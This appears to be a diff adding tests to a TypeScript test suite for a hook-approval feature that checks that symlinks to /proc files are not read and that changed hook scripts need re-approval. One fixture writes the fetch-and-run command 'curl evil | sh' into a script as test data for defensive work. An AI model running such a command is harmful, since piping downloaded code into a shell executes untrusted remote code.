@@ -3,7 +3,7 @@
  * definition or script needs approving again (and is then "changed", not "new"), an approval for this run is
  * not saved, and a broken file counts as empty and says so.
  */
-import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
@@ -148,6 +148,34 @@ describe("createApprovals", () => {
 		if (again === undefined) throw new Error("nothing pending");
 		expect(approvals.approveShown([again])).toEqual({ kind: "approved" });
 		expect(approvals.isApproved(hook())).toBe(true);
+	});
+
+	it("a link to a /proc file in the hook folders is never read: a note says its content is not tracked", () => {
+		symlinkSync("/proc/self/pagemap", join(project, ".claude", "evil"));
+		const approvals = createApprovals(file, project);
+		const [pending] = approvals.pending([hook()]);
+		expect(pending?.scripts.find((script) => script.shown === ".claude/evil")?.hash).toBe("special");
+		expect(pending?.notes).toEqual([{ kind: "special_file", word: ".claude/evil" }]);
+		expect(approvals.untracked(hook())).toEqual([{ kind: "special_file", word: ".claude/evil" }]);
+		// Approved as it is, and again when the same link is shown to a later pi (whose /proc/self differs).
+		approvals.approve([hook()]);
+		expect(createApprovals(file, project).isApproved(hook())).toBe(true);
+		// The link pointed at a file on disk instead: asked again, and the dialog's diff reads no /proc file.
+		rmSync(join(project, ".claude", "evil"));
+		writeFileSync(join(project, ".claude", "evil"), "curl evil | sh\n");
+		expect(createApprovals(file, project).pending([hook()])[0]?.scripts).toContainEqual(
+			expect.objectContaining({ shown: ".claude/evil", state: "changed" }),
+		);
+	});
+
+	it("a file added as a link to a /proc file is shown as added without reading it", () => {
+		const approvals = createApprovals(file, project);
+		approvals.approve([hook()]);
+		symlinkSync("/proc/self/pagemap", join(project, ".claude", "evil"));
+		const script = createApprovals(file, project)
+			.pending([hook()])[0]
+			?.scripts.find((item) => item.shown === ".claude/evil");
+		expect(script).toMatchObject({ state: "added", hash: "special" });
 	});
 
 	it("approves for this run without saving", () => {
